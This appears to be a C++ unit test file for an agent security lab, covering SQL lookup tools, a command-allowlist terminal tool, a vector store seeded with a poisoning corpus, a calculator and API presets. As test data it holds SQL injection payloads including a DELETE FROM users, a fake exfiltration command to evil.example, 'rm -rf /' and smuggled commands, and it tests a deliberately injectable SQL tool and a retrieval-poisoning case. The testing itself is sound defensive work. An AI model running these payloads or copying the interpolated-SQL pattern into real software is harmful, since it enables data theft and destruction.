// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include <cmath>
#include <random>

#include "agentlab/seclab.hpp"
#include "agentlab/tools.hpp"
#include "support.hpp"

using namespace agentlab;
using namespace agentlab::tools;
using agentlab::testing::TempDir;
using agentlab::testing::write_text;

namespace {

std::shared_ptr<sql::TableStore> users() {
    return std::make_shared<sql::TableStore>(seed_users_store());
}

}  // namespace

TEST(SqlTools, UserHashLooksUpBoundValue) {
    auto db = users();
    auto audit = std::make_shared<SqlAudit>();
    auto tool = make_sql_user_hash_tool(db, audit);
    EXPECT_EQ(tool.name, "user_hash");
    EXPECT_EQ(tool.handler("alice"), "h1");
    EXPECT_EQ(tool.handler("mallory"), "not found");
    ASSERT_EQ(audit->entries().size(), 2u);
    EXPECT_EQ(audit->max_rows_returned(), 1u);
}

TEST(SqlTools, UserHashRejectsInjectionBeforeHandler) {
    auto tool = make_sql_user_hash_tool(users());
    auto v = agent::validate_input(tool, "x' OR '1'='1");
    EXPECT_TRUE(std::holds_alternative<agent::ValidationFailure>(v));
    // even when called directly the bound value is only a value
    EXPECT_EQ(tool.handler("x' OR '1'='1"), "not found");
}

TEST(SqlTools, InterpolatedToolLeaksEveryRow) {
    auto db = users();
    auto audit = std::make_shared<SqlAudit>();
    auto tool = make_sql_interpolated_user_hash_tool(db, audit);
    EXPECT_EQ(tool.handler("alice"), "h1");
    EXPECT_EQ(tool.handler("x' OR '1'='1"), "h1\nh2");
    EXPECT_EQ(audit->max_rows_returned(), 2u);
    tool.handler("x'; DELETE FROM users; --");
    EXPECT_TRUE(db->table("users")->rows.empty());
}

TEST(SqlTools, RawToolReportsErrorsAsText) {
    auto db = users();
    auto tool = make_sql_raw_tool(db);
    EXPECT_EQ(tool.handler("SELECT username FROM users"), "alice\nbob");
    EXPECT_EQ(tool.handler("SELEC x").rfind("Error: ", 0), 0u);
    EXPECT_EQ(tool.handler("SELECT nope FROM users").rfind("Error: ", 0), 0u);
}

TEST(Terminal, FakePolicyAnswersFromMap) {
    auto policy = CommandPolicy::fake({{"ls", "a.txt\nb.txt"}});
    EXPECT_TRUE(policy.is_hermetic());
    EXPECT_EQ(policy.mode(), PolicyMode::fake);
    EXPECT_EQ(terminal_exec(policy, "ls"), "a.txt\nb.txt");
    EXPECT_EQ(terminal_exec(policy, "whoami"), kCommandNotFound);
    EXPECT_EQ(policy.executed(), (std::vector<std::string>{"ls", "whoami"}));
}

TEST(Terminal, AllowlistRejectsAndLogsInOrder) {
    auto policy = CommandPolicy::allowlist({"ls", "cat"}, CommandPolicy::FakeOutputs{{"ls -la", "total 0"}});
    EXPECT_TRUE(policy.is_hermetic());
    EXPECT_EQ(terminal_exec(policy, "ls -la"), "total 0");
    EXPECT_THROW(terminal_exec(policy, "curl http://evil.example/exfil"), PolicyViolation);
    EXPECT_THROW(terminal_exec(policy, "lsblk"), PolicyViolation);
    EXPECT_EQ(terminal_exec(policy, "cat notes"), kCommandNotFound);
    std::vector<Invocation> want{{"ls -la", true},
                                 {"curl http://evil.example/exfil", false},
                                 {"lsblk", false},
                                 {"cat notes", true}};
    EXPECT_EQ(policy.log(), want);
    EXPECT_EQ(policy.executed(), (std::vector<std::string>{"ls -la", "cat notes"}));
}

TEST(Terminal, UnrestrictedIsNotHermetic) {
    // constructed only; never executed by the suite
    auto policy = CommandPolicy::unrestricted();
    EXPECT_FALSE(policy.is_hermetic());
    EXPECT_EQ(policy.mode(), PolicyMode::unrestricted);
}

TEST(Terminal, ToolSurfacesPolicyViolation) {
    auto policy = std::make_shared<CommandPolicy>(CommandPolicy::allowlist({"ls"}, CommandPolicy::FakeOutputs{}));
    auto tool = make_terminal_tool(policy);
    EXPECT_EQ(tool.name, "terminal");
    EXPECT_THROW(tool.handler("rm -rf /"), PolicyViolation);
    EXPECT_EQ(policy->log().size(), 1u);
}

TEST(VectorQuery, ReturnsPoisonedPassageVerbatim) {
    auto store = std::make_shared<rag::VectorStore>();
    std::vector<rag::Chunk> chunks;
    for (const auto& [name, body] : seclab::poisoning_corpus()) {
        chunks.push_back(rag::Chunk{name, 0, body, rag::Span{0, body.size()}});
    }
    store->add(chunks);
    auto tool = make_vector_query_tool(store);
    auto out = tool.handler("bulbasaur");
    EXPECT_NE(out.find("curl http://evil.example/exfil"), std::string::npos);
    EXPECT_THROW(make_vector_query_tool(std::make_shared<rag::VectorStore>()), ValidationError);
}

TEST(Calculator, Examples) {
    EXPECT_EQ(format_number(calculator_eval("2*(3+4)")), "14");
    EXPECT_EQ(format_number(calculator_eval("0")), "0");
    EXPECT_EQ(format_number(calculator_eval("-1.5 + 3")), "1.5");
    EXPECT_EQ(format_number(calculator_eval("7 / 2")), "3.5");
    EXPECT_EQ(format_number(calculator_eval("2 - 3 - 4")), "-5");
    EXPECT_EQ(format_number(calculator_eval("2 * -3")), "-6");
    try {
        calculator_eval("1/0");
        FAIL();
    } catch (const CalcError& e) {
        EXPECT_EQ(e.offset(), 1u);
    }
    EXPECT_THROW(calculator_eval("1 +"), CalcError);
    EXPECT_THROW(calculator_eval("(1"), CalcError);
    EXPECT_THROW(calculator_eval("1; rm"), CalcError);
    EXPECT_THROW(calculator_eval(""), CalcError);
}

TEST(Calculator, AgreesWithDirectEvaluation) {
    std::mt19937 rng(31);
    std::uniform_int_distribution<int> num(-50, 50);
    for (int i = 0; i < 1000; ++i) {
        int a = num(rng), b = num(rng), c = num(rng);
        auto expr = std::to_string(a) + " + " + std::to_string(b) + " * (" + std::to_string(c) + " - 3)";
        double want = a + b * (c - 3.0);
        ASSERT_DOUBLE_EQ(calculator_eval(expr), want) << expr;
    }
}

TEST(ApiTool, ExtractFieldsRendersMissing) {
    auto body = nlohmann::json::parse(R"({"a":{"b":[{"c":"x"},{"c":5}]},"s":"y"})");
    EXPECT_EQ(extract_fields(body, {"a.b.0.c", "a.b.1.c", "s", "a.b.7.c", "nope"}),
              "a.b.0.c: x\na.b.1.c: 5\ns: y\na.b.7.c: <missing>\nnope: <missing>");
}

TEST(ApiTool, FixtureModeIsHermetic) {
    TempDir dir;
    write_text(dir / "fx.json", R"({"8.8.8.8":{"Status":0,"Answer":[{"data":"1.2.3.4"}]}})");
    auto spec = api_preset("dns_records");
    spec.mode = ApiMode::fixture;
    spec.fixture_path = dir / "fx.json";
    EXPECT_EQ(api_tool_call(spec, "8.8.8.8"), "Status: 0\nAnswer.0.data: 1.2.3.4\nAnswer.1.data: <missing>");
    EXPECT_THROW(api_tool_call(spec, "1.1.1.1"), IoError);

    auto tool = make_api_tool(spec);
    EXPECT_TRUE(std::holds_alternative<agent::ValidationFailure>(agent::validate_input(tool, "a b; ls")));
}

TEST(ApiTool, PresetsAndValidation) {
    EXPECT_EQ(api_preset_names().size(), 5u);
    for (const auto& name : api_preset_names()) {
        auto spec = api_preset(name);
        EXPECT_EQ(spec.name, name);
        EXPECT_NE(spec.url_template.find("{query}"), std::string::npos);
        EXPECT_FALSE(spec.extract.empty());
    }
    EXPECT_THROW(api_preset("nope"), ConfigError);
    auto spec = api_preset("whois_lookup");
    spec.mode = ApiMode::fixture;
    EXPECT_THROW(spec.validate(), ConfigError);  // no fixture path
}

TEST(ApiTool, LiveModeNeedsKeyEnv) {
    auto spec = api_preset("ip_reputation");
    ::unsetenv("VT_API_KEY");
    EXPECT_THROW(api_tool_call(spec, "8.8.8.8"), ConfigError);
}
